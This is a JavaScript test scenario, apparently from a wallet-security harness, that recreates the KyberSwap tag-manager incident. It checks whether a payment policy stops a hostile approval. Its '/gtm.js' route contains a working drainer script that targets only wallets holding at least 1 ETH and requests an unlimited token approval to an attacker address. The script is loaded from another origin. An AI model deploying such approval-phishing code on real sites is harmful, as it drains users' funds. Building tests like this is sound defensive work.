// B07: a container of the tag manager loads a script from elsewhere that asks only visitors with money for an approval.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'B07',
  title: 'approval asked by a tag-manager script, of the rich alone',
  source: 'KyberSwap, 1 September 2022',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`], contracts: [`${a.chain}:${a.TOKEN}`] }),
  page: {
    routes: {
      '/gtm.js': (a) => ({
        type: 'text/javascript',
        text: `window.tagManagerDone = (async () => {
          const balance = await ethereum.request({ method: 'eth_getBalance', params: ['${a.USER}', 'latest'] });
          if (BigInt(balance) < 10n ** 18n) return 'too poor';
          const data = '0x095ea7b3' + '${a.EVIL.slice(2).toLowerCase().padStart(64, '0')}' + 'f'.repeat(64);
          const tx = { from: '${a.USER}', to: '${a.TOKEN}', data };
          return ethereum.request({ method: 'eth_sendTransaction', params: [tx] }).catch((error) => error.code);
        })();`,
      }),
    },
  },

  async attack(a) {
    const tag = Object.assign(document.createElement('script'), { src: `${a.other}/gtm.js`, async: true });
    document.head.append(tag);
    await new Promise((resolve) => {
      tag.onload = resolve;
      tag.onerror = resolve;
    });
    return window.tagManagerDone;
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },
  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: (a) => ({ surface: 'eip1193', account: a.EVIL }),
};
